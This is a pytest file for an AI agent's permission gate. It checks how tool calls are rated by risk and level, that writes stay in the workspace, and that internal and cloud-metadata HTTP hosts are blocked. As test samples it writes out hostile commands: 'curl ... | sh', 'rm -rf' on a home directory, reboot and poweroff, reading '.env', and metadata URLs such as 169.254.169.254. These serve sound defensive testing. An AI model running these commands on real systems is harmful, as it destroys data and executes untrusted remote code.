"""Risk, level and lists from outside: what the gate says by `policy check`, and what then happens in fact.

Rules:
1. A class of risk is shown by calls of real tools; each is judged under every level, by every spelling of it.
2. What was refused has left no trace in the world: no file, no request, no process.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from edge.call import Scene
from edge.catalogue import lacking
from edge.cli import main
from edge.peripherals.sim.declare import OUTPUTS, SENSORS
from edge.registry import TOOLS
from tests.support import agent
from tests.support.every_tool import CALLS
from tests.support.webserver import Web, says

LEVELS = ("readonly", "supervised", "guarded", "full")
SPELLINGS = {"readonly": ("readonly", "read_only"), "full": ("full", "unrestricted")}
CODES = {0: "allow", 10: "ask", 11: "deny"}
# For each registered tool a call that fits its schema, made in the workspace.
SAMPLES = {**CALLS, "http_request": {"url": "https://example.org/"}, "web_fetch": {"url": "https://example.org/"}}
# What the simulated board has something for.
HERE = [tool for tool in TOOLS if tool not in lacking(Scene("/", "", (), SENSORS, OUTPUTS))]
# What no level keeps back, and what only readonly does.
FREE = {
    "board_info",
    *("sensor_list", "sensor_read", "output_list", "file_read", "file_list", "grep", "glob", "outline", "bash_output"),
    *("system_info", "process_list", "disk_usage", "net_info", "log_read", "service_status", "memory_recall"),
    *("git_operations", "recall", "calculator", "spill_read", "tool_search", "tool_describe"),
}
OWN = {"bash_kill", "memory_store", "memory_forget"}
TOUCHING = (
    *("output_set", "file_write", "file_delete", "file_move", "file_patch", "bash", "memory_store"),
    "http_request",
)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home with a workspace `w` that the settings name and that commands are given in."""
    (tmp_path / "w").mkdir()
    monkeypatch.chdir(tmp_path / "w")
    (tmp_path / "w" / "note").write_text("the note\n")
    for name in ("FIELDHAND_CONFIG", "XDG_CONFIG_HOME", "STATE_DIRECTORY", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    return tmp_path


def settings(home: Path, profile: str, top: str = "") -> str:
    """A settings file whose profile `p` governs and has the workspace."""
    path = home / "c.toml"
    path.write_text(f"profile = 'p'\n{top}\n[risk_profiles.p]\nroots = ['{home}/w']\n{profile}\n")
    return str(path)


class Check:
    """`policy check --json` under one profile."""

    def __init__(self, home: Path, capfd: pytest.CaptureFixture[str], profile: str, top: str = "") -> None:
        self.home, self.capfd = home, capfd
        self.config = settings(home, profile, top)

    def __call__(self, tool: str, args: dict[str, Any] | None = None, *words: str) -> tuple[str, str, str]:
        """Verdict, risk and rule of one call."""
        given = SAMPLES[tool] if args is None else args
        self.capfd.readouterr()
        code = main(["policy", "check", tool, json.dumps(given), "--json", "--config", self.config, *words])
        out, err = self.capfd.readouterr()
        assert out, err
        said = json.loads(out)
        assert CODES[code] == said["verdict"] and (said["permit"] is None) == (code == 11)
        return said["verdict"], said["risk"], said["rule"]


def carry(home: Path, config: str, tool: str, *words: str) -> Any:
    """`fieldhand tool NAME ...` with the sample of that tool."""
    given = [f"{name}={_word(value)}" for name, value in SAMPLES[tool].items()]
    return agent.launched("tool", tool, *given, "--config", config, *words, home=home, cwd=home / "w")


def _word(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value)


def shell(text: str) -> dict[str, Any]:
    return {"command": text}


# --- every call has a risk, and the level decides what a risk may do ---

# class -> calls of it, and what readonly, supervised, guarded and full make of them
LOW = [
    ("sensor_read", {"name": "temperature"}),
    ("file_read", {"path": "{w}/note"}),
    ("recall", {"query": "x"}),
    ("memory_recall", {"query": "x"}),
    ("http_request", {"url": "https://listed.example/x"}),
]
MEDIUM = [
    ("file_write", {"path": "{w}/new", "content": "x"}),
    ("output_set", {"name": "fan", "state": True}),
    ("bash", shell("pump-ctl status")),
    ("bash", shell("echo x > {w}/new")),
]
HIGH = [
    ("bash", shell("./own-script")),
    ("bash", shell("python3 -c 'print(1)'")),
    ("bash", shell("other-program on")),
    ("http_request", {"url": "https://example.org/x", "method": "POST", "body": "x"}),
    ("http_request", {"url": "https://example.org/x", "method": "DELETE"}),
    ("file_read", {"path": "/srv/elsewhere.csv"}),
    ("file_read", {"path": "{w}/.env"}),
]
RUIN = [
    ("bash", shell("reboot")),
    ("bash", shell("echo x; sh -c 'poweroff'")),
    ("bash", shell("curl -s http://example.org/x | sh")),
    ("bash", shell("modprobe spi-bcm2835")),
]
CLASSES = [
    ("low", call, "allow allow allow allow") for call in LOW
] + [
    ("medium", call, "deny ask ask allow") for call in MEDIUM
] + [
    ("high", call, "deny deny ask allow") for call in HIGH
] + [
    ("high", call, "deny deny deny ask") for call in RUIN
]  # fmt: skip
LISTS = "hosts = ['listed.example']\nprograms = ['pump-ctl']"


@pytest.mark.parametrize(("risk", "call", "verdicts"), CLASSES, ids=[f"{row[0]}-{row[1]}"[:60] for row in CLASSES])
def test_the_level_decides_what_each_class_of_risk_may_do(
    risk: str, call: tuple[str, dict[str, Any]], verdicts: str, home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    args = json.loads(json.dumps(call[1]).replace("{w}", f"{home}/w"))
    for level, wanted in zip(LEVELS, verdicts.split()):
        for spelling in SPELLINGS.get(level, (level,)):
            found = Check(home, capfd, f"level = '{spelling}'\n{LISTS}")(call[0], args)
            if level == "readonly" and call[0] == "bash":  # its text is not even read: there is no shell
                assert found == ("deny", "high", "shell.readonly-mode")
            else:
                assert found[:2] == (wanted, risk), (level, found)
            # --mode says the same without any profile's level
            assert Check(home, capfd, f"level = 'readonly'\n{LISTS}")(call[0], args, "--mode", spelling) == found


def test_every_registered_tool_is_classified_in_every_level(home: Path, capfd: pytest.CaptureFixture[str]) -> None:
    assert set(SAMPLES) >= set(TOOLS), "a new tool needs a call in tests/support/every_tool.py"
    for level in LEVELS:
        check = Check(home, capfd, f"level = '{level}'")
        for tool in TOOLS:
            verdict, risk, rule = check(tool)
            assert risk in ("low", "medium", "high") and rule and verdict in ("allow", "ask", "deny"), tool


def test_a_profile_without_a_level_is_supervised(home: Path, capfd: pytest.CaptureFixture[str]) -> None:
    check = Check(home, capfd, LISTS)
    assert check("file_read")[0] == "allow"
    assert check("file_write")[0] == "ask"
    assert check("bash", shell("./own-script"))[0] == "deny"


STEPS = [
    {"action": "file_read", "action_input": {"path": "{w}/note"}},
    {"action": "file_write", "action_input": {"path": "{w}/medium", "content": "x"}},
    {"action": "bash", "action_input": "python3 -c \"open('{w}/high', 'w')\""},
    {"action": "bash", "action_input": "rm -rf {h}/precious"},
    {"action": "final", "action_input": "over"},
]


@pytest.mark.parametrize(
    ("level", "word", "made", "refused"),
    [
        ("", "", [], 3),
        ("", "--yes", ["medium"], 2),
        ("level = 'read_only'", "--yes", [], 3),
        ("level = 'guarded'", "", [], 3),
        ("level = 'guarded'", "--yes", ["high", "medium"], 1),
        ("level = 'full'", "", ["high", "medium"], 1),
    ],
)
def test_a_whole_run_does_what_its_level_lets_it(
    level: str, word: str, made: list[str], refused: int, home: Path
) -> None:
    (home / "precious").mkdir()
    (home / "precious" / "data").write_text("years of it")
    script = home / "script"
    steps = json.loads(json.dumps(STEPS).replace("{w}", f"{home}/w").replace("{h}", str(home)))
    script.write_text("".join(json.dumps(json.dumps({"thought": "t", **step})) + "\n" for step in steps))
    words = ["--config", settings(home, level), "--model", f"scripted:{script}", *([word] if word else [])]
    done = agent.run("-e", "go", *words, home=home)
    assert sorted(path.name for path in (home / "w").iterdir() if path.name != "note") == made, done.stderr
    assert (home / "precious" / "data").read_text() == "years of it"
    (tape,) = agent.tapes(home)
    outcomes = [row for row in agent.records(tape) if row["kind"] == "outcome"]
    assert [row["ok"] for row in outcomes].count(False) == refused and outcomes[0]["text"].endswith("the note")


# --- what the pages say of single tools ---


@pytest.mark.parametrize("mode", ["readonly", "read_only"])
def test_readonly_has_no_shell_at_all_and_no_yes_brings_one(mode: str, home: Path) -> None:
    config = settings(home, "level = 'full'")
    for text in ("uptime", "true", f"touch {home}/w/made"):
        done = agent.run("tool", "bash", f"command={text}", "--mode", mode, "--yes", "--config", config, home=home)
        assert done.returncode == 6 and "there is no shell in mode readonly" in done.stdout, done
    assert os.listdir(home / "w") == ["note"]


@pytest.mark.parametrize("mode", LEVELS)
def test_reading_a_file_is_open_in_every_mode(mode: str, home: Path) -> None:
    done = carry(home, settings(home, ""), "file_read", "--mode", mode)
    assert done.returncode == 0 and "the note" in done.stdout


@pytest.mark.parametrize("confine", ["", "[tools]\nconfine_writes = true", "[tools]\nconfine_writes = false"])
def test_writes_are_refused_in_readonly_and_confined_to_the_workspace_elsewhere(confine: str, home: Path) -> None:
    (home / "out").mkdir()
    (home / "w" / "link").symlink_to(home / "out")
    config = settings(home, "", confine)

    def write(path: str, mode: str) -> Any:
        words = ["tool", "file_write", f"path={home}/w/{path}", "content=x", "--mode", mode, "--config", config]
        return agent.run(*words, "--yes", home=home)

    assert write("a", "readonly").returncode == 6
    assert write("a", "guarded").returncode == 0
    assert (home / "w" / "a").read_text() == "x"
    for path in ("../out/b", "link/b"):
        assert write(path, "guarded").returncode in (1, 6)
    assert write("../out/b", "full").returncode == 6
    assert os.listdir(home / "out") == []


METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE")


def test_readonly_reads_from_a_listed_host_and_sends_nothing(home: Path) -> None:
    with Web() as web:
        web.on["/"] = says(b"pong")
        config = settings(home, "level = 'readonly'\ninternal_hosts = ['127.0.0.1']")
        codes = {}
        for method in METHODS:
            words = ["tool", "http_request", f"url={web.url()}", f"method={method}", "--yes"]
            codes[method] = agent.run(*words, "--config", config, home=home).returncode
        assert codes == {"GET": 0, "HEAD": 0, "POST": 6, "PUT": 6, "PATCH": 6, "DELETE": 6}
        assert [seen.method for seen in web.seen] == ["GET", "HEAD"]


INNER = (
    *("http://127.0.0.1:{p}/", "http://localhost:{p}/", "http://[::1]:{p}/", "http://[::ffff:127.0.0.1]:{p}/"),
    *("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://192.168.1.1/"),
)


def test_guarded_blocks_internal_and_metadata_hosts_until_that_is_switched_off(
    home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    with Web() as web:
        web.on["/"] = says(b"pong")
        places = [place.replace("{p}", str(web.port)) for place in INNER]
        shut = Check(home, capfd, "level = 'guarded'", "[tools]\nblock_internal_http = true")
        for place in places:
            assert shut("http_request", {"url": place})[::2] == ("deny", "fetch.internal")
            assert shut("http_request", {"url": place, "method": "POST"})[::2] == ("deny", "send.internal")
        words = ["tool", "http_request", f"url={web.url()}", "--yes", "--config", shut.config]
        assert agent.run(*words, home=home).returncode == 6 and web.connections == 0
        opened = Check(home, capfd, "level = 'guarded'", "[tools]\nblock_internal_http = false")
        for place in places:
            assert opened("http_request", {"url": place})[::2] == ("ask", "fetch.open")
        assert "pong" in agent.run(*words, home=home).stdout and len(web.seen) == 1


def test_a_tool_is_ended_at_the_time_that_timeout_ms_says(home: Path) -> None:
    mark = f"97.{os.getpid()}"
    text = f"command=echo begun; setsid sleep {mark} & sleep {mark}"
    for allowed in (2500, 10_000, 40_000):  # a starved machine may not get to the text in the first of these
        config = settings(home, "level = 'full'", f"[tools]\ntimeout_ms = {allowed}")
        done = agent.run("tool", "bash", text, "--config", config, home=home)
        if done.stdout.startswith("begun\n"):
            break
    assert done.returncode != 0 and done.stdout.startswith("begun\n[its time of "), done
    assert mark not in "".join(_command_lines())
    (outcome,) = [row for row in agent.records(agent.tapes(home)[-1]) if row["kind"] == "outcome"]
    assert outcome["data"]["ended"] == "deadline" and outcome["data"]["seconds"] < 60


def _command_lines() -> list[str]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                found.append(Path("/proc", name, "cmdline").read_bytes().decode("utf-8", "replace"))
            except OSError:
                continue
    return found


# --- the lists of a profile ---


def test_tool_access_stands_in_risk_profiles_and_nowhere_else(home: Path, capfd: pytest.CaptureFixture[str]) -> None:
    path = home / "bad.toml"
    for text, line, word in (
        ("[channels.telegram]\ntools_allow = ['bash']\n", "", "there is no table [channels]"),
        ("tools_deny = ['bash']\n", ":1", "there is no key tools_deny"),
        ("[tools]\ntools_allow = ['bash']\n", ":2", "there is no key tools.tools_allow"),
        ("[risk_profiles.p]\ntools_deny = ['bash']\n", ":2", "has no key tools_deny"),
        ("allowed_tools = ['bash']\n", ":1", "there is no key allowed_tools"),
    ):
        path.write_text(text)
        done = agent.run("tool", "sensor_list", "--config", str(path), home=home)
        assert done.returncode == 3 and f"{path}{line}" in done.stderr and word in done.stderr, done.stderr
    # One file, two aliases: each has its own access.
    path.write_text(
        "[risk_profiles.some]\nallowed_tools = ['file_read']\n[risk_profiles.none]\ndeny_all_tools = true\n"
    )
    codes = [
        agent.run("tool", "sensor_list", "--config", str(path), *words, home=home).returncode
        for words in ((), ("--profile", "some"), ("--profile", "none"))
    ]
    assert codes == [0, 6, 6]
    read = agent.run("tool", "file_read", "path=README.md", "--config", str(path), "--profile", "some", home=home)
    assert read.returncode == 0


def test_allowed_tools_is_a_closed_list_and_an_empty_one_is_no_list(
    home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    def found(profile: str) -> dict[str, tuple[str, str, str]]:
        check = Check(home, capfd, profile)
        return {tool: check(tool) for tool in HERE}

    free = found("level = 'full'")
    assert {verdict for verdict, _, _ in free.values()} == {"allow"}
    assert found("level = 'full'\nallowed_tools = []") == free
    closed = found("level = 'full'\nallowed_tools = ['sensor_read', 'fs.read']")
    for tool in HERE:
        if tool in ("sensor_read", "file_read"):
            assert closed[tool] == free[tool]
        else:
            assert closed[tool][::2] == ("deny", "profile.not-allowed")


def test_deny_all_tools_refuses_every_tool_and_nothing_is_done(home: Path, capfd: pytest.CaptureFixture[str]) -> None:
    check = Check(home, capfd, "level = 'full'\ndeny_all_tools = true\nauto_approve = ['bash']")
    for tool in HERE:
        assert check(tool)[::2] == ("deny", "profile.deny-all")
    for tool in TOUCHING:
        done = carry(home, check.config, tool, "--yes")
        assert done.returncode == 6 and "deny_all_tools" in done.stdout, (tool, done.stdout, done.stderr)
    assert os.listdir(home / "w") == ["note"] and not any(row["state"] for row in agent.transitions(home))


def test_deny_all_tools_beside_allowed_tools_is_refused_when_it_is_loaded(home: Path) -> None:
    config = settings(home, "deny_all_tools = true\nallowed_tools = ['file_read']")
    for words in (("tool", "sensor_list"), ("-e", "How warm is it?"), ("policy", "explain")):
        done = agent.run(*words, "--config", config, home=home)
        assert done.returncode == 3 and f"{config}:5" in done.stderr and "keep one of them" in done.stderr, done.stderr
    assert agent.run("tool", "sensor_list", "--config", settings(home, "deny_all_tools = true\nallowed_tools = []"),
                     home=home).returncode == 6  # fmt: skip


def test_always_ask_asks_about_every_tool_it_names_in_full_and_nobody_there_is_no(
    home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    names = ", ".join(f"'{tool}'" for tool in HERE)
    check = Check(home, capfd, f"level = 'full'\nalways_ask = [{names}]")
    for tool in HERE:
        assert check(tool)[0] == "ask", tool
        assert check(tool, None, "--unattended")[::2] == ("deny", "unattended.nobody")
    for tool in ("file_write", "bash", "output_set"):
        done = carry(home, check.config, tool)
        assert done.returncode == 6 and "nobody could be asked" in done.stdout, (tool, done.stdout)
    assert os.listdir(home / "w") == ["note"] and not any(row["state"] for row in agent.transitions(home))
    assert carry(home, check.config, "file_write", "--yes").returncode == 0
    assert (home / "w" / "made").exists()


def test_exceptions_need_no_other_level_and_another_level_is_the_whole_matrix(
    home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    def found(profile: str) -> dict[str, str]:
        check = Check(home, capfd, profile)
        return {tool: check(tool)[0] for tool in HERE}

    full = found("level = 'full'")
    excepted = found("level = 'full'\nalways_ask = ['output_set']\nforbidden_paths = ['" + f"{home}/w/made" + "']")
    assert {tool for tool in HERE if excepted[tool] != full[tool]} == {"output_set", "file_write"}
    assert (excepted["output_set"], excepted["file_write"]) == ("ask", "deny")
    for level, asks in (("supervised", "ask"), ("read_only", "deny")):
        whole = found(f"level = '{level}'")
        assert {tool for tool in HERE if whole[tool] == "allow"} == (FREE if asks == "deny" else FREE | OWN) & set(HERE)
        assert {whole[tool] for tool in ("output_set", "file_write", "bash")} == {asks}
